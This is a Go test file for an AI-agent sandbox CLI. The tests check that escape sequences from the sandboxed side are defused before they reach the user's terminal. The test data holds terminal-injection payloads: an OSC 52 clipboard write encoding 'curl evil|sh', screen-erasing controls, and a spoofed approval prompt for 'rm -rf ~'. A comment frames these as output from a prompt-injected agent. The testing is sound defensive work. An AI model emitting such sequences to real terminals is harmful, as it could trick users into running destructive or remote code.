package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"io"
	"os"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/creack/pty"
	"golang.org/x/term"

	"github.com/lever-jail/lever/internal/config"
	"github.com/lever-jail/lever/internal/containers"
)

// The neutraliser itself is tested in internal/hostterm (escape_test.go); these tests
// attack it through lever's commands, at a real pseudo-terminal.

// control is the first byte of s a terminal could obey (C0 other than newline and tab,
// DEL, a C1 control, a byte that is not UTF-8, a CR not ending a line), if any.
func control(s string) (string, bool) {
	for i, r := range s {
		switch {
		case r == '\n' || r == '\t':
		case r == '\r' && strings.HasPrefix(s[i:], "\r\n"):
		case r < 0x20 || r == 0x7f || (r >= 0x80 && r <= 0x9f):
			return s[i:], true
		case r == utf8.RuneError && !strings.HasPrefix(s[i:], "\uFFFD"):
			return s[i:], true
		}
	}
	return "", false
}

// hostTerminal is a pseudo-terminal standing in for the user's: the slave end is lever's
// stdout (and, swapped in for the test, os.Stdin), in raw mode as a terminal session puts
// it, so what lever writes arrives on the master byte for byte.
type hostTerminal struct{ master, slave *os.File }

func openHostTerminal(t *testing.T, stdinToo bool) *hostTerminal {
	t.Helper()
	master, slave, err := pty.Open()
	if err != nil {
		t.Skipf("no pseudo-terminals here: %v", err)
	}
	t.Cleanup(func() { master.Close(); slave.Close() })
	if _, err := term.MakeRaw(int(slave.Fd())); err != nil {
		t.Fatal(err)
	}
	if stdinToo {
		old := os.Stdin
		os.Stdin = slave
		t.Cleanup(func() { os.Stdin = old })
	}
	return &hostTerminal{master, slave}
}

// shows closes lever's end and returns everything the terminal received.
func (h *hostTerminal) shows(t *testing.T) string {
	t.Helper()
	h.slave.Close()
	h.master.SetReadDeadline(time.Now().Add(5 * time.Second))
	got, _ := io.ReadAll(h.master)
	return string(got)
}

// escRecorder prints an escape sequence as the jail's output.
type escRecorder struct{ recorder }

func (r *escRecorder) Exec(ctx context.Context, name string, o containers.ExecOptions) (int, error) {
	if len(o.Argv) > 1 && o.Argv[1] == "result" {
		io.WriteString(o.Stdout, "result \x1b]0;pwned\x07 done\n")
		return 0, nil
	}
	return r.recorder.Exec(ctx, name, o)
}

// TestTermSafeThroughCommand: lever result's output reaches a host terminal (a real
// pty) with the escape sequence defused; the control is the same command writing to a
// pipe-like buffer, which gets the bytes unchanged (so the payload did reach lever).
func TestTermSafeThroughCommand(t *testing.T) {
	rec := &escRecorder{recorder{runs: map[string]string{mgrC: runsM, docsC: runsW1}}}
	cfg := unitJail(t, nil)
	attachHook = func(_ *config.Config) (execer, error) { return rec, nil }
	h := openHostTerminal(t, false)
	var errb bytes.Buffer
	code := Main([]string{"result", "-c", cfg, "r-20261130-100000-aaaaaa"}, h.slave, &errb)
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errb.String())
	}
	got := h.shows(t)
	if strings.Contains(got, "\x1b") || !strings.Contains(got, `\x1b]0;pwned\x07 done`) {
		t.Errorf("terminal got %q", got)
	}
	var out bytes.Buffer
	if code := Main([]string{"result", "-c", cfg, "r-20261130-100000-aaaaaa"}, &out, &errb); code != 0 || !strings.Contains(out.String(), "\x1b]0;pwned\x07") {
		t.Errorf("control: exit %d, %q", code, out.String())
	}
}

// sessionPayload is what a prompt-injected agent gets onto lev's terminal session: a
// failing shell command's output as a progress line (OSC 52 writing the clipboard, erase
// line and CR to redraw it, an 8-bit CSI, DEL), then an approval prompt; line ends as
// the jail's pty sends them.
const sessionPayload = "lev: 10:00:00.000 #7 tool shell: error: exit code 1 stdout: \x1b]52;c;Y3VybCBldmlsfHNoCg==\x07\x1b[2K\r\u009b2J\x7f\r\n" +
	"lev: r-1 wants shell {\"command\":\"rm -rf ~\"} (permission is \"ask\")\r\n     [y]es / [N]o? "

// sessionRecorder answers every exec with sessionPayload on its stdout and records
// whether it was a terminal session with stdin attached.
type sessionRecorder struct {
	recorder
	tty, stdin bool
}

func (r *sessionRecorder) Exec(ctx context.Context, name string, o containers.ExecOptions) (int, error) {
	if len(o.Argv) > 1 && o.Argv[1] == "ps" {
		return r.recorder.Exec(ctx, name, o)
	}
	r.tty, r.stdin = o.TTY, o.Stdin != nil
	io.WriteString(o.Stdout, sessionPayload)
	return 0, nil
}

// TestTerminalSessionsNeutralised: lever run, logs and resume at a terminal are terminal
// sessions (lev's prompts must reach the user, and the answers lev), and what the jail
// prints in them reaches the host terminal with no control a terminal obeys; the line
// ends (\r\n) and the ordinary text, the prompt's command included, arrive intact.
// lever shell, the raw session by the user's choice, is the control: the same bytes
// arrive unchanged, so the payload did reach the terminal path.
func TestTerminalSessionsNeutralised(t *testing.T) {
	cases := []struct {
		name string
		args []string
		raw  bool
	}{
		{"run", []string{"run"}, false},
		{"run in a worker", []string{"run", "--worker", "docs", "docsbot"}, false},
		{"logs --follow", []string{"logs", "-f", "r-20261130-100000-aaaaaa"}, false},
		{"resume", []string{"resume", "r-20261130-100000-aaaaaa"}, false},
		{"shell (raw: the control)", []string{"shell"}, true},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			rec := &sessionRecorder{recorder: recorder{runs: map[string]string{mgrC: runsM, docsC: runsW1}, bench: map[string]bool{mgrC + "-bench": true}}}
			cfg := unitJail(t, nil)
			attachHook = func(*config.Config) (execer, error) { return rec, nil }
			h := openHostTerminal(t, true)
			var errb bytes.Buffer
			if code := Main(withConfig(tc.args, cfg), h.slave, &errb); code != 0 {
				t.Fatalf("exit %d: %s", code, errb.String())
			}
			got := h.shows(t)
			if !rec.tty || !rec.stdin {
				t.Fatalf("not a terminal session with stdin (tty %v, stdin %v): lev's prompts would not reach the user", rec.tty, rec.stdin)
			}
			if tc.raw {
				if got != sessionPayload {
					t.Errorf("raw session: got %q, want the jail's bytes unchanged", got)
				}
				return
			}
			if rest, bad := control(got); bad {
				t.Errorf("a control reaches the terminal at %q\nall: %q", rest, got)
			}
			for _, want := range []string{
				`tool shell: error: exit code 1 stdout: \x1b]52;c;Y3VybCBldmlsfHNoCg==\x07\x1b[2K\x0d\u009b2J\x7f` + "\r\n",
				`lev: r-1 wants shell {"command":"rm -rf ~"} (permission is "ask")` + "\r\n     [y]es / [N]o? ",
			} {
				if !strings.Contains(got, want) {
					t.Errorf("terminal lacks %q\nall: %q", want, got)
				}
			}
		})
	}
}

// TestMainErrorNeutralised: an error lever prints can quote the guest (bring-up's stderr
// quotes, a name an agent chose); on a terminal it arrives neutralised. The control is
// the same error to a pipe, which keeps its bytes (so the payload reached lever's
// printing).
func TestMainErrorNeutralised(t *testing.T) {
	cfg := unitJail(t, nil)
	attachHook = func(*config.Config) (execer, error) {
		return nil, errors.New("guest said: \x1b]52;c;eA==\x07\x1b[2K\rall fine \u009b2J\x7f")
	}
	h := openHostTerminal(t, false)
	var out bytes.Buffer
	if code := Main([]string{"ps", "-c", cfg}, &out, h.slave); code == 0 {
		t.Fatal("exit 0")
	}
	got := h.shows(t)
	if rest, bad := control(got); bad {
		t.Errorf("a control reaches the terminal at %q\nall: %q", rest, got)
	}
	if want := `lever: guest said: \x1b]52;c;eA==\x07\x1b[2K\x0dall fine \u009b2J\x7f` + "\n"; got != want {
		t.Errorf("terminal got %q, want %q", got, want)
	}
	var errb bytes.Buffer
	Main([]string{"ps", "-c", cfg}, &out, &errb)
	if !strings.Contains(errb.String(), "\x1b]52;c;eA==\x07") {
		t.Errorf("control: a pipe got %q", errb.String())
	}
}

// TestPsJSONNeutralised: lever ps --json passes lev's records through, and JSON strings
// may hold DEL and C1 controls raw (a tree blueprint's name, a run's error); neither a
// terminal nor a pipe gets them raw, and a script decodes the very same values (the
// control: the names are intact after decoding, plain ones byte for byte).
func TestPsJSONNeutralised(t *testing.T) {
	const evil = "x\u009b2J\u009d52;c;eA==\u009c\x7fy"
	runs := `[{"id":"r-20261130-100000-aaaaaa","agent":"` + evil + `","status":"failed","error":"bad ` + "\xc2" + `","created":"2026-11-30T10:00:00Z"}]`
	for _, toTerminal := range []bool{true, false} {
		name := "pipe"
		if toTerminal {
			name = "terminal"
		}
		t.Run(name, func(t *testing.T) {
			rec := &recorder{runs: map[string]string{mgrC: runs, docsC: runsW1}}
			cfg := unitJail(t, rec)
			var got string
			var errb bytes.Buffer
			if toTerminal {
				h := openHostTerminal(t, false)
				if code := Main([]string{"ps", "--json", "-c", cfg}, h.slave, &errb); code != 0 {
					t.Fatalf("exit %d: %s", code, errb.String())
				}
				got = h.shows(t)
			} else {
				var out bytes.Buffer
				if code := Main([]string{"ps", "--json", "-c", cfg}, &out, &errb); code != 0 {
					t.Fatalf("exit %d: %s", code, errb.String())
				}
				got = out.String()
			}
			if rest, bad := control(got); bad {
				t.Errorf("a control is printed at %q\nall: %q", rest, got)
			}
			var ps struct {
				Runs []struct {
					Agent string `json:"agent"`
					Run   struct {
						Agent string `json:"agent"`
						Error string `json:"error"`
					} `json:"run"`
				} `json:"runs"`
			}
			if err := json.Unmarshal([]byte(got), &ps); err != nil {
				t.Fatalf("not JSON: %v\n%s", err, got)
			}
			var agents []string
			for _, r := range ps.Runs {
				agents = append(agents, r.Agent+":"+r.Run.Agent)
				if r.Run.Agent == evil && r.Run.Error != "bad \uFFFD" {
					t.Errorf("error %q, want the bad byte as U+FFFD", r.Run.Error)
				}
			}
			if strings.Join(agents, " ") != "docs:docsbot manager:"+evil {
				t.Errorf("decoded %q", agents)
			}
		})
	}
}
